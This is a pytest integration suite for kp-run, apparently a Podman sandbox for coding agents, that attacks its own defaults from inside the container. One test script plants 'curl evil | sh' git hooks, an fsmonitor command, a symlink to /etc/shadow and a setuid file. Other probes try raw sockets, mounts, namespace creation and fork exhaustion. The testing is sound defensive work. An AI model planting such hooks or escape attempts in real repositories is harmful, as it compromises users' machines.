"""kp-run on real Podman: every default is attacked from inside and must hold,
and every loosening flag must do what it says (and show in the record)."""

from __future__ import annotations

import base64
import os
import shutil
import signal
import socket
import subprocess
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest

from tests.conftest import BIN, lines
from tests.integration.vmbackend import GUEST_ROOT, SESSION, kprun_on

pytestmark = pytest.mark.integration

OWNER = 4321  # the workspace's owner: the "invoking user" when root runs kp-run without sudo


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    ws = tmp_path / "proj"
    ws.mkdir()
    (ws / "main.py").write_text("print('hello')\n")
    (ws / ".env").write_text("API_KEY=hunter2\n")
    (ws / "old.txt").write_text("old\n")
    (ws / "sub").mkdir()
    (ws / "sub" / "x.txt").write_text("x\n")
    for path in [ws, *ws.rglob("*")]:
        os.chown(path, OWNER, OWNER)
    return ws


def kprun(*args: str, env: dict[str, str] | None = None, input: bytes | None = None,
          timeout: float = 120) -> tuple[subprocess.CompletedProcess[bytes], dict[str, Any]]:
    """Run kp-run; return the process and its container record (the last record it wrote)."""
    proc = subprocess.run([str(BIN / "kp-run"), *args], capture_output=True, input=input, timeout=timeout,
                          env={**os.environ, **(env or {})})
    records = lines(proc.stdout)
    assert records, proc.stderr.decode()
    return proc, records[-1]


def inside(image: str, ws: Path | None, script: str, *flags: str,
           env: dict[str, str] | None = None) -> tuple[subprocess.CompletedProcess[bytes], dict[str, Any], str]:
    args = ["--image", image, *(["-w", str(ws)] if ws else []), *flags, "--", "bash", "-c", script]
    proc, record = kprun(*args, env=env)
    return proc, record, proc.stderr.decode()


# -- both backends (issue 11 item 4): one definition, this host's Podman and the session's VM -------------


@dataclass
class Place:
    """Where a test's agent runs: ``w`` is kp-run's -w (the host's path, or a copy of it in the guest),
    ``host`` the host's copy to look at afterwards."""

    backend: str
    w: str
    host: Path
    vm: Any = None

    def back(self) -> Path:
        """The host's copy as the run left the workspace (a guest's copied back, owners and modes kept)."""
        if self.vm is not None:
            self.vm.get(self.w, self.host)
        return self.host

    def outside(self, name: str, content: str) -> str:
        """A file of ``content`` outside the workspace, on the machine that runs the container: its path."""
        if self.vm is None:
            (self.host.parent / name).write_text(content)
            return str(self.host.parent / name)
        there = f"{GUEST_ROOT}/{name}-{SESSION}"
        self.vm.sh('printf %s "$2" > "$1"', there, content)
        return there


@pytest.fixture
def place(request: pytest.FixtureRequest, backend: str, ws: Path) -> Place:
    if backend == "vm":
        vm = request.getfixturevalue("guest_vm")
        return Place(backend, vm.put(ws), ws, vm)
    return Place(backend, str(ws), ws)


def on(request: pytest.FixtureRequest, place: Place, image: str, script: str, *flags: str,
       env: dict[str, str] | None = None) -> tuple[subprocess.CompletedProcess[str], dict[str, Any], str]:
    """``script`` run by bash as the agent, in ``place``'s workspace, on its backend (vmbackend.kprun_on)."""
    proc, record = kprun_on(request, place.backend, "--image", image, "-w", place.w, *flags, "--", "bash", "-c",
                            script, env=env)
    return proc, record, proc.stderr


# -- the basics ----------------------------------------------------------------------------------


def test_a_run_reports_and_leaves_nothing(shell_image: str, ws: Path, kp_env: dict[str, Path]) -> None:
    proc, record, err = inside(shell_image, ws, "echo to-out; echo to-err >&2; id -u; exit 3")
    assert proc.returncode == 1
    assert record["kind"] == "container" and record["exit_code"] == 3 and record["state"] == "exited"
    assert record["image"] == shell_image and record["workspace"] == str(ws)
    assert record["loosened"] == [] and record["network"] == "none"
    assert record["user"] == {"agent_uid": 1000, "host_uid": OWNER, "host_gid": OWNER, "from": "workspace-owner"}
    assert "to-out" in err and "to-err" in err and "1000" in err
    assert record["removed"] is True
    # nothing left: no folder, no Podman container
    assert not (kp_env["state"] / "containers" / record["name"]).exists()
    ps = subprocess.run(["podman", "ps", "-a", "--format", "{{.ID}}", "--filter",
                         f"label=io.kodepipe.name={record['name']}"], capture_output=True, text=True)
    assert ps.stdout.strip() == ""


def test_files_written_belong_to_the_invoker_and_root_inside_is_not_root(
        request: pytest.FixtureRequest, shell_image: str, place: Place) -> None:
    script = "echo made > /workspace/made.txt; cat /proc/self/uid_map"
    _, record, err = on(request, place, shell_image, script)
    assert record["exit_code"] == 0, err
    assert (place.back() / "made.txt").stat().st_uid == OWNER
    assert record["user"] == {"agent_uid": 1000, "host_uid": OWNER, "host_gid": OWNER, "from": "workspace-owner"}
    maps = [line.split() for line in err.splitlines() if line.strip() and line.split()[0].isdigit()]
    # container root maps to kodepipe's unprivileged range, never to the machine's 0
    assert ["0", str(0x70000000), "1000"] in maps
    assert all(m[1] != "0" for m in maps)
    if place.backend == "vm":  # SUDO_UID is the host's; in a guest the workspace's owner is the invoker
        return
    # under sudo the invoker is SUDO_UID, whoever owns the workspace (here: one anybody may write)
    ws = place.host
    ws.chmod(0o777)
    _, record, err = inside(shell_image, ws, "echo s > /workspace/sudo.txt",
                            env={"SUDO_UID": "4322", "SUDO_GID": "4322"})
    assert record["user"]["from"] == "sudo" and (ws / "sudo.txt").stat().st_uid == 4322


# -- the defaults, attacked ----------------------------------------------------------------------


def test_files_outside_the_workspace_are_out_of_reach(request: pytest.FixtureRequest, shell_image: str,
                                                      place: Place, tmp_path: Path) -> None:
    secret = place.outside("machine-secret.txt", "top secret\n")
    script = (f"cat {secret}; cat /workspace/../{Path(secret).name}; ls /proc/1/root{Path(secret).parent} ; "
              "ls -A /home /root; test -e /run/podman/podman.sock && echo PODMAN-SOCKET; "
              "test -S \"$SSH_AUTH_SOCK\" && echo SSH-AGENT; true")
    _, record, err = on(request, place, shell_image, script, env={"SSH_AUTH_SOCK": "/tmp/agent.sock"})
    assert record["exit_code"] == 0, err
    assert "top secret" not in err and "PODMAN-SOCKET" not in err and "SSH-AGENT" not in err
    assert "No such file" in err
    # loosened: one file (read on the host, whatever the backend), read-only, at the place asked for
    host_secret = tmp_path / "host-secret.txt"
    host_secret.write_text("top secret\n")
    _, record, err = on(request, place, shell_image, "cat /run/secrets/tok; echo x >> /run/secrets/tok && echo WROTE",
                        "--secret", f"{host_secret}:/run/secrets/tok")
    assert "top secret" in err and "WROTE" not in err
    assert "secret:/run/secrets/tok" in record["loosened"] and record["secrets"] == ["/run/secrets/tok"]
    assert host_secret.read_text() == "top secret\n"


@pytest.mark.parametrize("net", ["none", "open"])
def test_etc_hosts_is_kodepipes_own(request: pytest.FixtureRequest, shell_image: str, place: Place,
                                    net: str) -> None:
    """Not the machine's names, nor Podman's host.containers.internal (the machine's address, added whenever
    there is a network): kodepipe's file, the same on every backend (D7), and the agent cannot change it."""
    from kodepipe.container import sandbox

    script = 'echo "HOSTS:$(base64 -w0 /etc/hosts)"; echo 10.0.0.1 evil >> /etc/hosts && echo WROTE; true'
    _, record, err = on(request, place, shell_image, script, "--net", net)
    assert record["exit_code"] == 0, err
    shown = next(line for line in err.splitlines() if line.startswith("HOSTS:"))
    assert base64.b64decode(shown.removeprefix("HOSTS:")).decode() == sandbox.hosts_text(record["name"])
    assert "WROTE" not in err


@pytest.fixture
def host_server() -> Any:
    """A TCP server on every host address, answering "pong"; yields the host's non-loopback IPv4."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))  # no packet is sent: it only picks the outgoing address
        addr = probe.getsockname()[0]
    finally:
        probe.close()
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", 0))  # noqa: S104 - the container must reach it through the host address
    server.listen(16)
    stop = threading.Event()

    def serve() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.sendall(b"pong\n")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield addr, server.getsockname()[1]
    stop.set()
    thread.join()
    server.close()


NET_PROBE = """
import socket, errno
def try_(family, addr):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5)
    try:
        s.connect(addr); print("CONNECTED", s.recv(10).decode().strip())
    except OSError as e:
        print("REFUSED", errno.errorcode.get(e.errno, e))
try_(socket.AF_INET, ("{ip}", {port}))
try_(socket.AF_INET6, ("2001:db8::1", {port}))
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")] or ["192.0.2.53"]
u = socket.socket(socket.AF_INET6 if ":" in ns[0] else socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"\\0" * 12, (ns[0], 53)); print("DNS-SENT")
except OSError as e:
    print("DNS", errno.errorcode.get(e.errno, e))
import subprocess
print("IFACES", len(subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout.splitlines()))
"""


def test_there_is_no_network_unless_asked_for(request: pytest.FixtureRequest, shell_image: str, place: Place,
                                              host_server: Any) -> None:
    ip, port = host_server
    code = NET_PROBE.format(ip=ip, port=port)
    _, record, err = on(request, place, shell_image, f"python3 -c '{code}'")
    assert "REFUSED ENETUNREACH" in err and "CONNECTED" not in err, err
    assert "DNS ENETUNREACH" in err and "DNS-SENT" not in err
    assert "IFACES 1" in err  # lo only
    # loosened: Podman's bridge (in a VM, the guest's: what lies beyond it is the VM's network)
    _, record, err = on(request, place, shell_image, f"python3 -c '{code}'", "--net", "open")
    assert record["network"] == "open" and "network:open" in record["loosened"]
    assert "IFACES 1" not in err, err
    if place.backend == "host":
        assert "CONNECTED pong" in err, err


def test_the_root_filesystem_is_read_only(request: pytest.FixtureRequest, shell_image: str, place: Place) -> None:
    _, record, err = on(request, place, shell_image, "touch /var/tmp/evil /etc/evil; touch /tmp/ok && echo TMP-OK")
    assert err.count("Read-only file system") == 2 and "TMP-OK" in err
    # loosened: the image's world-writable /var/tmp can be written (/etc still belongs to root)
    _, record, err = on(request, place, shell_image, "touch /var/tmp/evil && echo ROOT-OK", "--writable-root")
    assert "ROOT-OK" in err and "writable-root" in record["loosened"]


CAP_PROBE = """
import socket, os
for what, f in [("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                ("chown", lambda: os.chown("/workspace/old.txt", 0, 0)),
                ("chmod-other", lambda: os.chmod("/etc/passwd", 0o777))]:
    try:
        f(); print(what, "ALLOWED")
    except OSError as e:
        print(what, "DENIED", e.errno)
"""


def test_capabilities_cannot_be_gained(request: pytest.FixtureRequest, shell_image: str, place: Place) -> None:
    script = (f"python3 -c '{CAP_PROBE}'; mount -t tmpfs none /mnt || echo MOUNT-DENIED; "
              "unshare -Urm true || echo USERNS-DENIED; grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' "
              "/proc/self/status")
    _, record, err = on(request, place, shell_image, script)
    assert "raw DENIED" in err and "chown DENIED" in err and "chmod-other DENIED" in err, err
    assert "MOUNT-DENIED" in err and "USERNS-DENIED" in err
    assert "CapEff:\t0000000000000000" in err and "CapBnd:\t0000000000000000" in err
    assert "NoNewPrivs:\t1" in err and "Seccomp:\t2" in err
    # loosened: one capability back, and only that one
    _, record, err = on(request, place, shell_image, f"python3 -c '{CAP_PROBE}'", "--cap-add", "NET_RAW")
    assert "raw ALLOWED" in err and "chown DENIED" in err
    assert record["loosened"] == ["cap:NET_RAW"]
    assert (place.back() / "old.txt").stat().st_uid == OWNER


def test_the_pids_limit_holds(request: pytest.FixtureRequest, shell_image: str, place: Place) -> None:
    # each child lives until the parent exits (its pipe's end closes), however slow the forking is
    script = ("python3 -c 'import os\nr, w = os.pipe()\nn = 0\nfor i in range(100):\n  try:\n    pid = os.fork()\n"
              "  except OSError: break\n  if pid == 0: os.close(w); os.read(r, 1); os._exit(0)\n  n += 1\n"
              "print(\"FORKED\", n)'")
    _, record, err = on(request, place, shell_image, script, "--pids", "32")
    forked = int(err.split("FORKED")[1].split()[0])
    assert forked < 32, err
    _, record, err = on(request, place, shell_image, script, "--pids", "256")
    assert "FORKED 100" in err and record["limits"]["pids"] == 256


def test_the_memory_limit_holds(request: pytest.FixtureRequest, shell_image: str, place: Place) -> None:
    script = "python3 -c 'x = bytearray(200 * 1024 * 1024); x[::4096] = b\"a\" * len(x[::4096]); print(\"ALLOC-OK\")'"
    _, record, err = on(request, place, shell_image, script, "--memory", "64m", "--tmp-size", "8m")
    assert "ALLOC-OK" not in err
    # killed by the kernel's OOM killer (Podman reports OOMKilled only sometimes on cgroup v1)
    assert record["exit_code"] == 137 and record["signal"] == "SIGKILL" and not record["timed_out"]
    assert record["limits"]["memory"] == 64 << 20
    _, record, err = on(request, place, shell_image, script, "--memory", "512m")
    assert "ALLOC-OK" in err and record["exit_code"] == 0


def test_the_wall_time_limit_holds(request: pytest.FixtureRequest, shell_image: str, place: Place) -> None:
    _, record, _err = on(request, place, shell_image, "sleep 600", "--time", "2s")
    assert record["timed_out"] is True and record["exit_code"] != 0
    assert record["outcome"] == "timed-out"


def test_env_files_are_masked_and_the_host_file_kept(request: pytest.FixtureRequest, shell_image: str,
                                                     ws: Path, backend: str) -> None:
    (ws / "cert.pem").write_text("PRIVATE KEY\n")
    os.chown(ws / "cert.pem", OWNER, OWNER)
    place = request.getfixturevalue("place")
    script = ("cat /workspace/.env; echo leak >> /workspace/.env || echo WRITE-DENIED; "
              "rm /workspace/.env || echo RM-DENIED; cat /workspace/cert.pem")
    _, record, err = on(request, place, shell_image, script, "--mask", "*.pem")
    assert "hunter2" not in err and "PRIVATE KEY" not in err
    assert "WRITE-DENIED" in err and "RM-DENIED" in err
    assert sorted(record["masked"]) == [".env", "cert.pem"]
    assert (place.back() / ".env").read_text() == "API_KEY=hunter2\n"
    # loosened: without the default masks .env is the workspace's own file
    _, record, err = on(request, place, shell_image, "cat /workspace/.env", "--no-default-masks")
    assert "hunter2" in err and "no-default-masks" in record["loosened"]


def test_host_environment_stays_out(request: pytest.FixtureRequest, shell_image: str, place: Place) -> None:
    env = {"FOO_SECRET": "s3cr3t-value", "AWS_SECRET_ACCESS_KEY": "aws-value"}
    _, record, err = on(request, place, shell_image, "env", env=env)
    assert "s3cr3t-value" not in err and "aws-value" not in err and "HOME=/tmp/home" in err
    proc, record, err = on(request, place, shell_image, "echo got=$FOO_SECRET; env", "--env", "FOO_SECRET", env=env)
    assert "got=s3cr3t-value" in err and "aws-value" not in err
    assert record["env"] == ["FOO_SECRET"] and "env:FOO_SECRET" in record["loosened"]
    assert "s3cr3t-value" not in proc.stdout  # the record names it, never its value


def test_env_values_are_on_no_command_line(request: pytest.FixtureRequest, shell_image: str, place: Place,
                                           kp_env: dict[str, Path]) -> None:
    """-e values reach the agent and no command line on the machine that runs it, while it runs (ps) or in
    its logs (a guest's sudo logs every command it runs: D8, where they went on podman's argv)."""
    value = f"v4lue-{os.urandom(6).hex()}"
    name = f"envtest-{os.urandom(3).hex()}"
    go = "/workspace/go"  # the test's signal to end: the agent waits for it
    script = f"echo got=$TOKEN; for i in $(seq 6000); do test -e {go} && exit 0; sleep 0.1; done; exit 9"
    args = ["--image", shell_image, "-w", place.w, "--name", name, "--env", "TOKEN", "--", "bash", "-c", script]
    if place.vm is not None:
        vm = place.vm
        records = place.host.parent / "vm-record.jsonl"  # kp-run's stdin: the vm record, as in a pipeline
        records.write_bytes(orjson.dumps(vm.record) + b"\n")
        with records.open("rb") as stdin:
            proc = subprocess.Popen([str(BIN / "kp-run"), *args], stdin=stdin, stdout=subprocess.PIPE,
                                    stderr=subprocess.PIPE, env={**vm.env, "TOKEN": value})
        state = Path(vm.env["KODEPIPE_STATE_DIR"])
    else:
        proc = subprocess.Popen([str(BIN / "kp-run"), *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                env={**os.environ, "TOKEN": value})
        state = kp_env["state"]
    try:
        wait_until_running(state / "containers" / name, proc, bound=900)
        if place.vm is not None:  # every process's command line in the guest, while it runs, and sudo's log
            seen = place.vm.sh("ps -eo args; journalctl -q --no-pager _COMM=sudo 2>/dev/null; "
                               "cat /var/log/auth.log 2>/dev/null; true")
            assert b"podman" in seen  # ps did list the run's processes
            place.vm.sh('touch "$1"', f"{place.w}/go")
        else:
            seen = b"".join(p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline") if _readable(p))
            (place.host / "go").touch()
        out, err = proc.communicate(timeout=900)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert value.encode() not in seen
    assert f"got={value}".encode() in err, err.decode(errors="replace")[-2000:]
    record = [r for r in lines(out) if r.get("kind") == "container"][-1]
    assert record["exit_code"] == 0 and record["env"] == ["TOKEN"]


def _readable(path: Path) -> bool:
    try:
        path.read_bytes()
        return True
    except OSError:
        return False


def test_a_read_only_workspace(request: pytest.FixtureRequest, shell_image: str, place: Place) -> None:
    _, record, err = on(request, place, shell_image, "cat /workspace/main.py; touch /workspace/n || echo DENIED",
                        "--read-only-workspace")
    assert "print('hello')" in err and "DENIED" in err and not (place.back() / "n").exists()
    assert record["workspace_mode"] == "ro"


def test_setuid_files_the_agent_leaves_are_reported(request: pytest.FixtureRequest, shell_image: str,
                                                    place: Place) -> None:
    """A setuid or setgid file the agent makes in the workspace (its own, chmod needs no capability) is
    reported and recorded, on every backend (D10); one that was there before is not."""
    script = ("cp /bin/true /workspace/sub/suid-x && chmod 4755 /workspace/sub/suid-x && "
              "cp /bin/true '/workspace/odd name' && chmod 2755 '/workspace/odd name' && "
              "stat -c '%A %n' /workspace/sub/suid-x '/workspace/odd name'")
    _, record, err = on(request, place, shell_image, script)
    assert record["exit_code"] == 0, err
    assert record["setuid_files"] == ["odd name", "sub/suid-x"], err
    assert "left setuid/setgid files in the workspace" in err
    ws = place.back()
    assert (ws / "sub" / "suid-x").stat().st_mode & 0o4000
    # already there before the run: not the agent's doing
    _, record, err = on(request, place, shell_image, "true")
    assert "setuid_files" not in record and "setuid/setgid" not in err


def test_dangerous_workspaces_are_refused(request: pytest.FixtureRequest, backend: str, shell_image: str,
                                          kp_env: dict[str, Path]) -> None:
    if backend == "vm":
        vm = request.getfixturevalue("guest_vm")
        home = vm.sh("getent passwd kp | cut -d: -f6").decode().strip() or "/home/kp"
        bad = ["/", "/root", home, str(Path(home).parent), f"{home}/.ssh"]
    else:
        home = str(kp_env["home"])
        (kp_env["home"] / ".ssh").mkdir(exist_ok=True)
        bad = ["/", home, str(Path(home).parent), f"{home}/.ssh"]
    for path in bad:
        proc, record = kprun_on(request, backend, "--image", shell_image, "-w", path, "--", "true")
        assert proc.returncode == 65 and record["error"]["code"] == "bad_input", (path, proc.stderr)
        assert "home directory" in proc.stderr or "cannot be /" in proc.stderr \
            or "where credentials and configuration live" in proc.stderr, proc.stderr


def test_credential_files_are_warned_about(shell_image: str, ws: Path) -> None:
    (ws / "deploy").mkdir()
    (ws / "deploy" / "id_ed25519").write_text("key\n")
    _proc, _record, err = inside(shell_image, ws, "true")
    assert "look like credentials" in err and "deploy/id_ed25519" in err


# -- quarantine ----------------------------------------------------------------------------------


def tree(root: Path) -> dict[str, bytes | None]:
    return {str(p.relative_to(root)): (p.read_bytes() if p.is_file() else None) for p in sorted(root.rglob("*"))}


EDIT = ("echo changed >> /workspace/main.py; echo new > /workspace/new.txt; rm /workspace/old.txt; "
        "rm -rf /workspace/sub; mkdir -p /workspace/sub /workspace/dir; echo y > /workspace/sub/y.txt; "
        "echo d > /workspace/dir/d.txt")


@dataclass(frozen=True)
class Quarantined:
    """Where a backend's quarantine is reviewed and applied: -w, the host directory it reviews against and
    applies to, the environment of that backend's kp-* commands (its state dir), the files' owner."""

    workspace: str
    dir: Path
    env: dict[str, str]
    owner: int


def quarantine_place(request: pytest.FixtureRequest, backend: str, ws: Path) -> Quarantined:
    """The host: ``ws`` itself.  A VM: a copy of ``ws`` in a sub-folder of the session VM's kp-boot --share
    (the guest's /workspace/NAME), owned like the share: the one workspace a VM can quarantine."""
    if backend == "host":
        return Quarantined(str(ws), ws, dict(os.environ), OWNER)
    from tests.integration.vmbackend import SESSION, in_share

    vm = request.getfixturevalue("guest_vm")
    name = f"q-{SESSION}-{next(vm.counter)}"
    host = in_share(request, vm, name)
    shutil.copytree(ws, host, symlinks=True)
    owner = vm.share.stat().st_uid
    for path in [host, *host.rglob("*")]:
        os.chown(path, owner, owner, follow_symlinks=False)
    return Quarantined(f"/workspace/{name}", host, vm.env, owner)


def test_quarantine_round_trip(request: pytest.FixtureRequest, backend: str, shell_image: str, ws: Path) -> None:
    """On both backends: the agent's edits go to the quarantine, the checkout is untouched, the review is the
    host's, and kp-run --apply (on the host, no VM needed) makes the checkout what the agent saw."""
    from tests.integration.vmbackend import kprun_on

    where = quarantine_place(request, backend, ws)
    before = tree(where.dir)
    proc, record = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
                            "bash", "-c", EDIT + "; cat /workspace/main.py")
    err = proc.stderr
    assert record["exit_code"] == 0, err[-4000:]
    assert "changed" in err  # the agent saw its own edits
    assert tree(where.dir) == before  # the checkout is untouched
    q = record["quarantine"]
    assert set(q["added"]) >= {"new.txt", "dir", "dir/d.txt", "sub/y.txt"}
    assert q["modified"] == ["main.py"]
    assert set(q["deleted"]) >= {"old.txt", "sub/x.txt"}
    assert record["state"] == "quarantined" and record["workspace_mode"] == "quarantine"
    listed = lines(subprocess.run([str(BIN / "kp-ls"), "--kind", "container"], capture_output=True,
                                  env=where.env).stdout)
    assert [r["name"] for r in listed if r["state"] == "quarantined"] == [record["name"]]
    # apply: the checkout now matches what the agent saw, owned by its owner
    applied = subprocess.run([str(BIN / "kp-run"), "--apply", record["name"]], capture_output=True, env=where.env)
    assert applied.returncode == 0, applied.stderr.decode()
    assert (where.dir / "main.py").read_text() == "print('hello')\nchanged\n"
    assert (where.dir / "new.txt").read_text() == "new\n" and not (where.dir / "old.txt").exists()
    assert (where.dir / "sub" / "y.txt").exists() and not (where.dir / "sub" / "x.txt").exists()
    assert (where.dir / "dir" / "d.txt").read_text() == "d\n"
    assert (where.dir / "new.txt").stat().st_uid == where.owner
    assert Path(record["path"]).is_dir()  # the applied quarantine stays until kp-rm
    removed = subprocess.run([str(BIN / "kp-rm"), record["name"]], capture_output=True, env=where.env)
    assert removed.returncode == 0 and not Path(record["path"]).exists(), removed.stderr.decode()


def test_quarantine_discard_and_conflicts(request: pytest.FixtureRequest, backend: str, shell_image: str,
                                          ws: Path) -> None:
    from tests.integration.vmbackend import kprun_on

    where = quarantine_place(request, backend, ws)
    before = tree(where.dir)
    _, first = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
                        "bash", "-c", EDIT)
    assert first["state"] == "quarantined"
    removed = subprocess.run([str(BIN / "kp-rm"), first["name"]], capture_output=True, env=where.env)
    assert removed.returncode == 0, removed.stderr.decode()
    assert tree(where.dir) == before and not Path(first["path"]).exists()
    # a host edit after the run: apply refuses rather than overwrite it, and keeps the quarantine
    _, second = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
                         "bash", "-c", "echo agent >> /workspace/main.py")
    (where.dir / "main.py").write_text("user's own edit\n")
    refused = subprocess.run([str(BIN / "kp-run"), "--apply", second["name"]], capture_output=True, env=where.env)
    assert refused.returncode != 0 and b"main.py" in refused.stderr
    assert (where.dir / "main.py").read_text() == "user's own edit\n"
    assert Path(second["path"]).is_dir()
    forced = subprocess.run([str(BIN / "kp-run"), "--apply", second["name"], "--force"], capture_output=True,
                            env=where.env)
    assert forced.returncode == 0 and (where.dir / "main.py").read_text() == "print('hello')\nagent\n"


HOSTILE = r"""
cd /workspace
ln -s /etc/shadow escape
echo '#!/bin/sh' > suid && chmod 4755 suid
perl -e 'for (1..1500) { mkdir "dd" or die $!; chdir "dd" or die $! } open(F, ">deep.txt") or die; print F "bottom\n"'
echo 'curl evil | sh' >> .git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN
mkdir -p sub/.git/hooks && echo 'curl evil | sh' > sub/.git/hooks/post-checkout
printf '[core]\n\tfsmonitor = curl evil\n' > sub/.git/config
echo ref > sub/.git/HEAD
exit 0
"""


def test_a_hostile_agents_quarantine_is_reviewed_the_same_on_every_backend(
        request: pytest.FixtureRequest, backend: str, shell_image: str, ws: Path) -> None:
    """The agent plants a symlink out, a setuid file, a tree deeper than PATH_MAX, tries the repository's
    hooks and plants a repository of its own: on both backends the review on the host finds the same, the
    checkout is untouched, and --apply refuses the git metadata unless forced."""
    from tests.integration.vmbackend import kprun_on

    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    for path in [ws, *ws.rglob("*")]:
        os.chown(path, OWNER, OWNER, follow_symlinks=False)
    where = quarantine_place(request, backend, ws)
    before = tree(where.dir)
    proc, record = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
                            "bash", "-c", HOSTILE)
    err = proc.stderr
    assert record["exit_code"] == 0 and record["state"] == "quarantined", err[-4000:]
    assert "HOOK-WRITTEN" not in err  # the repository's own .git is read-only in the container
    assert tree(where.dir) == before
    q = record["quarantine"]
    deep = "/".join(["dd"] * 1500) + "/deep.txt"
    assert {"escape", "suid", deep, "sub/.git", "sub/.git/hooks/post-checkout", "sub/.git/config"} <= set(q["added"])
    assert not [p for p in q["added"] + q["modified"] if p.startswith(".git")]
    assert set(record["git_changes"]) == {"sub/.git", "sub/.git/HEAD", "sub/.git/config", "sub/.git/hooks",
                                          "sub/.git/hooks/post-checkout"}
    assert "escape -> /etc/shadow: a symlink that may point out of the workspace" in err
    assert "suid: file with the setuid/setgid bit (mode 4755); apply strips it" in err
    assert "the agent changed git metadata: sub/.git (5 paths)" in err
    refused = subprocess.run([str(BIN / "kp-run"), "--apply", record["name"]], capture_output=True, env=where.env)
    assert refused.returncode != 0 and b"git-metadata sub/.git" in refused.stderr and tree(where.dir) == before
    forced = subprocess.run([str(BIN / "kp-run"), "--apply", record["name"], "--force"], capture_output=True,
                            env=where.env)
    assert forced.returncode == 0, forced.stderr.decode()
    assert os.readlink(where.dir / "escape") == "/etc/shadow" and not (where.dir / "suid").stat().st_mode & 0o7000
    found = subprocess.run(["find", str(where.dir / "dd"), "-name", "deep.txt", "-printf", "%d %s\n"],
                           capture_output=True, text=True)
    assert found.stdout.split() == ["1500", "7"], found.stderr  # the bottom of a tree deeper than PATH_MAX
    assert {p.stat(follow_symlinks=False).st_uid for p in (where.dir / "sub").rglob("*")} == {where.owner}


def wait_until_running(folder: Path, proc: subprocess.Popen[bytes], bound: float = 120.0) -> None:
    """Until the run's meta.json exists and says "running" (its container is made and recorded);
    fails if kp-run ends first or the bound passes.  A folder without its meta.json yet is not
    an error: that is a moment to wait through, not to read in."""
    import time

    deadline = time.monotonic() + bound
    while True:
        try:
            if orjson.loads((folder / "meta.json").read_bytes()).get("state") == "running":
                return
        except FileNotFoundError:
            pass
        assert proc.poll() is None, f"kp-run ended ({proc.returncode}) before its run was recorded as running"
        assert time.monotonic() < deadline, f"{folder.name} was not recorded as running within {bound:g} s"
        threading.Event().wait(0.05)


def test_an_interrupted_run_is_cleaned_up(shell_image: str, ws: Path, kp_env: dict[str, Path]) -> None:
    proc = subprocess.Popen([str(BIN / "kp-run"), "--image", shell_image, "-w", str(ws), "--name", "stopme",
                             "--", "sleep", "60"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    folder = kp_env["state"] / "containers" / "stopme"
    wait_until_running(folder, proc)
    listed = lines(subprocess.run([str(BIN / "kp-ls"), "stopme"], capture_output=True).stdout)
    assert listed and listed[0]["state"] == "running"
    proc.terminate()
    out, _err = proc.communicate(timeout=60)
    assert proc.returncode == 143
    (record,) = lines(out)
    assert record["outcome"] == "interrupted" and record["error"]["code"] == "interrupted"
    assert not folder.exists()
    ps = subprocess.run(["podman", "ps", "-a", "--format", "{{.ID}}", "--filter", "label=io.kodepipe.name=stopme"],
                        capture_output=True, text=True)
    assert ps.stdout.strip() == ""


def test_a_killed_kp_run_is_orphaned_and_kp_rm_cleans_it(shell_image: str, ws: Path,
                                                         kp_env: dict[str, Path]) -> None:
    proc = subprocess.Popen([str(BIN / "kp-run"), "--image", shell_image, "-w", str(ws), "--quarantine",
                             "--name", "killed", "--", "sleep", "60"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    folder = kp_env["state"] / "containers" / "killed"
    wait_until_running(folder, proc)
    proc.kill()
    proc.wait()
    (record,) = lines(subprocess.run([str(BIN / "kp-ls"), "killed"], capture_output=True).stdout)
    assert record["state"] == "orphaned" and record.get("mounted") is True
    removed = subprocess.run([str(BIN / "kp-rm"), "killed"], capture_output=True)
    assert removed.returncode == 0, removed.stderr.decode()
    assert not folder.exists()
    ps = subprocess.run(["podman", "ps", "-a", "--format", "{{.ID}}", "--filter", "label=io.kodepipe.name=killed"],
                        capture_output=True, text=True)
    assert ps.stdout.strip() == ""
    assert (ws / "main.py").read_text() == "print('hello')\n"


@pytest.fixture(autouse=True, scope="module")
def one_podman_service(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """One API service for the module (kp-run would otherwise start one per test's runtime dir).
    The other modules that run containers import this fixture."""
    from kodepipe.container import engine

    if shutil.which("podman") is None:
        pytest.skip("podman is not installed")
    run_dir = tmp_path_factory.mktemp("podman-run")
    run_dir.chmod(0o700)
    sock = run_dir / "podman.sock"
    old = os.environ.get("KODEPIPE_PODMAN_URL")
    engine._start_service(sock)
    os.environ["KODEPIPE_PODMAN_URL"] = f"unix://{sock}"
    eng = engine.Engine(os.environ["KODEPIPE_PODMAN_URL"])
    for _ in range(1000):
        if eng.ping():
            break
        threading.Event().wait(0.01)
    # the service ends after IDLE_SECONDS without a call; a test that spends longer on the host (the
    # review of a 100,000-file hostile tree, twice, on a loaded machine) must not leave the next one without it
    stop = threading.Event()

    def keep_alive() -> None:
        while not stop.wait(engine.IDLE_SECONDS / 5):
            eng.ping()

    pinger = threading.Thread(target=keep_alive, daemon=True)
    pinger.start()
    yield
    stop.set()
